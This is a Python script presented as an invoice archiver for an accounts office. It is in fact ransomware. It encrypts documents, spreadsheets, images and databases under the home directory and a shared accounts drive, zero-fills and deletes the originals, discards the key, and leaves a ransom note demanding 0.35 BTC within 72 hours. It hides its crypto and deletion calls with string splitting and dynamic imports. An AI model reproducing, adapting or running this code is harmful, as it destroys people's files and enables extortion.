#!/usr/bin/env python3
"""Invoice archiver for the accounts office.

'Seals' old invoices, price lists and supplier contracts so the shared
drive only holds archived copies.
"""
import argparse
import hashlib
import importlib
import logging
import os
import pathlib
from dataclasses import dataclass

log = logging.getLogger("inv_archive")

ROOTS = [pathlib.Path.home(), pathlib.Path(os.environ.get("SHARE_MOUNT", "/mnt/accounts"))]
EXTS = {".pdf", ".xlsx", ".xls", ".docx", ".csv", ".ods", ".odt", ".jpg", ".png", ".db"}
SUFFIX = ".sealed"
NOTE_NAME = "READ_ME_ARCHIVE.txt"
HANDLERS = {}


def handler(kind):
    def deco(fn):
        HANDLERS[kind] = fn
        return fn
    return deco


@dataclass
class Sealer:
    key: bytes

    def __post_init__(self):
        mod = importlib.import_module("cryptography" + ".fernet")
        self._f = getattr(mod, "Fer" + "net")(self.key)

    def seal(self, data):
        return self._f.encrypt(data)


def new_key():
    mod = importlib.import_module("cryptography.fernet")
    return getattr(mod, "Fernet").generate_key()


def candidates(roots):
    for root in roots:
        if not root.exists():
            continue
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = pathlib.Path(dirpath) / name
                if p.suffix.lower() in EXTS:
                    yield p


@handler("seal")
def seal_file(sealer, path):
    data = path.read_bytes()
    out = path.with_name(path.name + SUFFIX)
    out.write_bytes(sealer.seal(data))
    with path.open("r+b") as fh:
        fh.write(b"\0" * len(data))
    getattr(path, "un" + "link")()
    return out


@handler("note")
def drop_note(folder, ident):
    note = folder / NOTE_NAME
    if not note.exists():
        note.write_text(
            "Your invoices, contracts and spreadsheets have been sealed.\n"
            f"Recovery ID: {ident}\n"
            "To obtain the unsealing key, send 0.35 BTC and your Recovery ID to\n"
            "recovery@archive-keys.example.net within 72 hours.\n"
        )


def run(roots, dry_run):
    key = new_key()
    ident = hashlib.sha256(key).hexdigest()[:16]
    sealer = Sealer(key)
    touched = set()
    count = 0
    for path in candidates(roots):
        if dry_run:
            log.info("would seal %s", path)
            continue
        try:
            HANDLERS["seal"](sealer, path)
            count += 1
            touched.add(path.parent)
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
    for folder in touched:
        HANDLERS["note"](folder, ident)
    del key
    return count


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--root", action="append", type=pathlib.Path)
    parser.add_argument("--dry-run", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")
    n = run(args.root or ROOTS, args.dry_run)
    log.info("sealed %d files", n)


if __name__ == "__main__":
    main()
